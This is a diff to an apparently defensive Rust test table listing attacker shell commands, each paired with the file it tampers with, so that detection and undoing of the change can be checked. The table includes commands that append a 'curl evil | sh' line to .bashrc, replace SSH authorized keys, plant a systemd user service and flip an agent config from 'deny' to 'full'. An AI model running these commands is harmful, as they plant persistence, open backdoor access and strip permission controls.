@@ -12,11 +12,21 @@ use crate::ground::{
 /// What an attacker does, the path by which it is told, and what stands there before and after the undoing.
 const ATTACKS: &[(&str, &str, &str, &str)] = &[
     ("echo 'curl evil | sh' >> ~/.bashrc", ".bashrc", BASHRC, "written"),
-    ("echo 'ssh-ed25519 evil' > ~/.ssh/x && mv ~/.ssh/x ~/.ssh/authorized_keys", ".ssh/authorized_keys", KEYS, "written"),
+    (
+        "echo 'ssh-ed25519 evil' > ~/.ssh/x && mv ~/.ssh/x ~/.ssh/authorized_keys",
+        ".ssh/authorized_keys",
+        KEYS,
+        "written",
+    ),
     ("rm ~/named/file.txt", "named/file.txt", "as it was\n", "deleted"),
     ("echo evil > ~/named/dir/deep/b.txt", "named/dir/deep/b.txt", "b\n", "written"),
     ("echo evil > ~/named/dir/new.txt", "named/dir/new.txt", "", "made"),
-    ("printf '[Service]\\nExecStart=evil\\n' > ~/.config/systemd/user/evil.service", ".config/systemd/user/evil.service", "", "made"),
+    (
+        "printf '[Service]\\nExecStart=evil\\n' > ~/.config/systemd/user/evil.service",
+        ".config/systemd/user/evil.service",
+        "",
+        "made",
+    ),
     ("sed -i 's/\"deny\"/\"full\"/' ~/.openclaw/openclaw.json", ".openclaw/openclaw.json", OPENCLAW, "keys"),
     ("chmod 666 ~/.bashrc", ".bashrc", BASHRC, "mode"),
 ];
